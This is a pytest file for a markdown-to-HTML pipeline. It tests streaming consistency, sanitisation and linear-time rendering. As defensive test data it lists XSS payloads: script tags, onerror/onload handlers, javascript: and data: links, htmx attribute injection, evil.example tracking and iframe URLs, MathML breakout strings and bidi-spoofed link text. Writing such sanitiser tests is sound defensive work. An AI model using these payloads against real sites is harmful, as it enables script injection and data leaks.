"""The markdown pipeline: what it renders, how safe that is, and the tricky texts that must stream to
the same HTML (the incremental renderer's own tests are in test_incremental.py)."""

from __future__ import annotations

import time
from html import escape
from html.parser import HTMLParser

import pytest
from markupsafe import Markup
from syrupy.assertion import SnapshotAssertion

from folyam.components import make_environment
from folyam.markdown import MarkdownPipeline
from folyam.mathml import MAX_FORMULA_CHARS
from tests.support.page import Page
from tests.support.page import stream as stream_into_page

PIPELINE = MarkdownPipeline(make_environment())


def stream(text: str, cuts: list[int]) -> Page:
    return stream_into_page(PIPELINE.renderer(), text, cuts)


def one_shot(text: str) -> str:
    return str(PIPELINE.render(text.replace("\r\n", "\n").replace("\r", "\n")))


TRICKY = {
    "unclosed_fence": "Intro\n\n```python\ndef f():\n    return 1\n",
    "fence_closed_then_text": "```js\nlet a = 1;\n```\nafter",
    "setext_heading": "Title line\n===\n\nSub\n---\n\ntext",
    "table_growing": "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\nafter table",
    "nested_lists": "- a\n  - b\n    - c\n- d\n\n1. one\n2. two\n   - inner\n",
    "ordered_list_resumed": "1. one\n\n2. two\n\n   continued\n\n3. three\n\nText\n\n4. four",
    "loose_list": "- a\n- b\n\n- c\n\npara",
    "reference_after_use": "See [the docs][d] and [x].\n\nMore text.\n\n[d]: https://example.org\n[x]: /local",
    "reference_before_use": "[d]: https://example.org\n\nSee [the docs][d].",
    "blockquote_lazy": "> quoted\nlazy continuation\n\n> again",
    "hr_and_heading": "text\n\n***\n\n# H1\n## H2\ntext",
    "emphasis_across_lines": "some **bold\nstill bold** and *it\nalic*",
    "crlf_and_cr": "line one\r\nline two\rline three\r\n\r\n- item\r",
    "indented_code": "para\n\n    code block\n    more\n\nafter",
    "math": "Inline $x^2$ and \\(a < b\\), but $5 and $10 stay prices.\n\n$$\n\\frac{a}{b}\n$$\n\n\\[\n"
    "\\sqrt{2}\n\\]\nText with $$E=mc^2$$ inside.\n\n- $$\n  x_1\n  $$\n- $\\frac{1}{$\n\n> $$y$$",
    "math_never_closed": "Before\n\n$$\n\\alpha +\n\\beta\n\nAfter\n$$\nstill open",
    "task_list": "- [ ] todo\n- [x] done\n  - [ ] nested\n- [y] not a task\n\n1. [X] first\n2. [ ]\n\n> - [ ] quoted",
    "empty_headings": "# \n\nText\n\n## ##\n\n- ###\n\n> #\n\n## Real\n\n#",
    "hostile": "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[j](javascript:alert(1))\n\n"
    '![x](https://evil.example/p.png?leak=1)\n\n<div hx-get="/x" hx-trigger="load">d</div>',
}


@pytest.mark.parametrize("name", sorted(TRICKY))
def test_tricky_cases_stream_to_the_one_shot_render(name: str, snapshot: SnapshotAssertion) -> None:
    text = TRICKY[name]
    expected = one_shot(text)
    for size in (1, 2, 3, 7, 64):
        page = stream(text, list(range(size, len(text), size)))
        assert page.body == expected, size
        assert page.tail == ""
    assert expected == snapshot


HOSTILE_CASES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<div hx-get="/x" hx-trigger="load">x</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "![pixel](https://evil.example/track.png?secret=1)",
    "![inline](data:image/png;base64,iVBORw0KGgo=)",
    '[t](https://x.org "<hx-partial hx-target=body hx-swap=innerHTML>pwn</hx-partial>")',
    "```<hx-partial\ncode\n```",
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example>",
    "<form action=https://evil.example><input name=q></form>",
    '<a href="https://x.org" style="position:fixed">x</a>',
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.elements


@pytest.mark.parametrize("text", HOSTILE_CASES)
def test_hostile_markdown_renders_harmless(text: str) -> None:
    html = str(PIPELINE.render(text))
    for tag, attributes in elements(html):
        assert tag in {"p", "a", "div", "span", "button", "pre", "code"}, html
        for name, value in attributes.items():
            assert name in {"href", "class", "rel", "type", "title", "role", "tabindex", "aria-label"}, html
            assert not (value or "").lower().startswith(("javascript:", "data:")), html
    assert "<hx-" not in html.lower()


@pytest.mark.parametrize(
    "text",
    [
        "[\u202egnp.exe](https://x.org)",
        "[a\u200bb\u2066c\u2069](https://x.org)",
        '[t](https://x.org "ti\u202etle")',
        "[$\\text{\u202egnp.exe}$](https://x.org) [\\(\\text{a\u200bb}\\)](https://x.org)",
    ],
)
def test_link_text_cannot_hide_behind_bidirectional_or_invisible_characters(text: str) -> None:
    html = str(PIPELINE.render(text))
    assert not any(ch in html for ch in "\u202e\u200b\u2066\u2069"), html
    assert "gnp.exe</a>" in html or "abc</a>" in html or 'title="title"' in html or "<mtext>gnp.exe</mtext>" in html


def test_link_urls_show_such_characters_percent_encoded() -> None:
    html = str(PIPELINE.render("[x](https://x.org/\u202egnp.exe) <https://x.org/a\u200bb>"))
    assert "\u202e" not in html.split(">x<")[0] and 'href="https://x.org/%E2%80%AEgnp.exe"' in html
    assert 'href="https://x.org/a%E2%80%8Bb"' in html and ">https://x.org/ab</a>" in html


def test_links_carry_rel_and_images_show_their_url() -> None:
    html = PIPELINE.render("[a](https://a.example) ![b](https://b.example/p.png)")
    assert html == Markup(
        '<p><a href="https://a.example" rel="nofollow noopener noreferrer">a</a> '
        '<a href="https://b.example/p.png" class="image-link" rel="nofollow noopener noreferrer">'
        "image: b (https://b.example/p.png)</a></p>\n"
    )


def test_the_pygments_stylesheet_is_current() -> None:
    from folyam.pygments_css import PATH, stylesheet

    assert PATH.read_text() == stylesheet(), "run: python -m folyam.pygments_css"


def test_text_that_looks_like_an_attribute_keeps_its_tags() -> None:
    # Only attribute values have "<" and ">" escaped (for htmx's sake); this is text with a code span.
    assert PIPELINE.render('x="`y`"') == Markup('<p>x="<code>y</code>"</p>\n')


def test_a_heading_with_no_text_renders_nothing() -> None:
    # (An answer stopped just after "## " left an empty <h2>: a nameless heading to a screen reader.)
    assert PIPELINE.render("Intro\n\n## ") == Markup("<p>Intro</p>\n")
    assert PIPELINE.render("- #\n\n> ## ##", live=True) == Markup(
        "<ul>\n<li>\n</li>\n</ul>\n<blockquote>\n</blockquote>\n"
    )


def test_task_list_items_are_disabled_checkboxes_labelled_by_their_text() -> None:
    html = PIPELINE.render("- [ ] to do\n- [x] done\n- [y] plain")
    assert html == Markup(
        '<ul>\n<li class="task-list-item"><label><input type="checkbox" disabled="disabled"> to do</label></li>\n'
        '<li class="task-list-item"><label><input type="checkbox" disabled="disabled" checked="checked"> done</label>'
        "</li>\n<li>[y] plain</li>\n</ul>\n"
    )


@pytest.mark.parametrize(
    "html",
    [
        '<input type="text" value="x" name="q" autofocus onfocus="alert(1)">',
        '<input type="checkbox" formaction="https://evil.example" form="f" style="position:fixed">',
        '<input type="hidden" name="csrf_token" value="stolen">',
        '<input type="image" src="https://evil.example/p.png">',
        '<input type="submit" hx-post="/x" hx-trigger="load">',
        '<input type="checkbox" disabled="no" checked="maybe" id="x" class="task-list-item-checkbox">',
        "<input>",
    ],
)
def test_any_input_leaves_the_sanitiser_as_a_disabled_checkbox(html: str) -> None:
    assert PIPELINE.clean(html) == Markup('<input type="checkbox" disabled="disabled">')


def test_math_becomes_mathml_and_prices_stay_text() -> None:
    html = str(PIPELINE.render("It costs $5 and $10, or $x^2$ and \\(y\\)."))
    assert html.startswith('<p>It costs $5 and $10, or <math display="inline"><mrow><msup><mi>x</mi><mn>2</mn>')
    assert html.count("<math") == 2
    assert PIPELINE.render("$$\n\\frac{1}{2}\n$$") == Markup(
        '<div class="math-block" role="group" tabindex="0" aria-label="Formula"><math display="block"><mrow><mfrac>'
        "<mrow><mn>1</mn></mrow><mrow><mn>2</mn></mrow></mfrac></mrow></math></div>\n"
    )


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("Broken $\\frac{1}{$ formula", "$\\frac{1}{$"),
        ("$$\n\\begin{matrix}a\n$$", "$$\n\\begin{matrix}a\n$$"),
        ("$$\nnever closed", "$$\nnever closed"),
        ("$\\newcommand{\\a}{xx}\\a$", "$\\newcommand{\\a}{xx}\\a$"),
        ("$" + "x^" * (MAX_FORMULA_CHARS // 2) + "2$", "$" + "x^" * (MAX_FORMULA_CHARS // 2) + "2$"),
        ("$" + "{" * 2000 + "x" + "}" * 2000 + "$", "$" + "{" * 2000 + "x" + "}" * 2000 + "$"),
    ],
)
def test_a_formula_that_cannot_be_converted_shows_as_its_source(text: str, source: str) -> None:
    html = str(PIPELINE.render(text))
    assert "<math" not in html
    assert 'class="math-source">' in html and f"{escape(source, quote=False)}</code>" in html


MATH_ATTACKS = [
    "$\\href{javascript:alert(1)}{click}$",
    "$\\href{https://evil.example/?leak=1}{x}$",
    "$\\style{position:fixed;inset:0;background:red}{x}$",
    "$\\class{codeblock__copy}{x}$",
    "$\\color{white}{hidden} \\colorbox{red}{x} \\fcolorbox{red}{blue}{y}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    '$\\text{<hx-partial hx-target="body" hx-swap="innerHTML">pwn</hx-partial>}$',
    "$\\text{<a href=javascript:alert(1)>x</a>}$",
    "$\\mathrm{<input type=text autofocus onfocus=alert(1)>}$",
    "$\\unicode{x3C}script\\unicode{x3E}$",
    "$\\hspace{99999em}\\rule{9999pt}{9999pt}\\kern{-9999em}x$",
    "$\\html{<b>x</b>}\\url{javascript:1}\\includegraphics{https://evil.example/p.png}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "\\[\n\\style{color:red}{x} \\text{<style>body{display:none}</style>}\n\\]",
    "$\\def\\a{\\a\\a}\\a$",
]
MATHML_ELEMENTS = {
    "math", "menclose", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "mspace",
    "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover",
}  # fmt: skip
# Presentation attributes that can neither fetch, run, link nor colour anything.
MATHML_ATTRIBUTES = {
    "display", "mathvariant", "stretchy", "fence", "form", "separator", "lspace", "rspace", "width", "height",
    "depth", "voffset", "linebreak", "movablelimits", "accent", "largeop", "minsize", "maxsize",
}  # fmt: skip


@pytest.mark.parametrize("text", MATH_ATTACKS)
def test_hostile_formulas_render_harmless(text: str) -> None:
    html = str(PIPELINE.render(text))
    assert "<hx-" not in html.lower()
    for tag, attributes in elements(html):
        assert tag in {"p", "div", "pre", "code"} | MATHML_ELEMENTS, html
        for name, value in attributes.items():
            assert name in {"class", "role", "tabindex", "aria-label"} | MATHML_ATTRIBUTES, html
            assert not (value or "").lower().startswith(("javascript:", "data:", "http")), html
            if name in ("width", "height", "depth"):
                assert float((value or "0").rstrip("emxptu%")) < 100, html


def test_math_text_is_text() -> None:
    html = str(PIPELINE.render("$\\text{a < b & <b>c</b>}$"))
    assert "<mtext>a&nbsp;&lt;&nbsp;b&nbsp;&amp;&nbsp;&lt;b&gt;c&lt;/b&gt;</mtext>" in html


# Texts where a careless rule costs quadratic time (a search to the end of the text for each opener, or
# back to the start for each item).
LINEAR_SHAPES = {
    "task list": "- [ ] item\n",
    "inline math openers": "\\( x ",
    "dollar openers": "$a ",
    "display math in list items": "- $$\n",
    "display math openers": "a\n\\[\n",
    "lines with pipes": "a | b | c\n",
}


def cpu_seconds(text: str) -> float:
    best = float("inf")
    for _ in range(3):  # the least of three: the machine is shared
        start = time.process_time()
        PIPELINE.render(text)
        best = min(best, time.process_time() - start)
    return best


@pytest.mark.parametrize("shape", sorted(LINEAR_SHAPES))
def test_hostile_shapes_render_in_linear_time(shape: str) -> None:
    unit = LINEAR_SHAPES[shape]
    small, large = cpu_seconds(unit * 1_000), cpu_seconds(unit * 4_000)
    # Four times the text: about four times the time when linear, sixteen when quadratic.
    assert large < 8 * small + 0.02, (small, large)


def test_inline_math_openers_in_image_alt_texts_stay_linear() -> None:
    # Each alt text is parsed on its own, between the openers of the text around it.
    small = cpu_seconds("".join(f"\\( ![\\(a{n}](b) " for n in range(500)))
    large = cpu_seconds("".join(f"\\( ![\\(a{n}](b) " for n in range(2_000)))
    assert large < 8 * small + 0.02, (small, large)
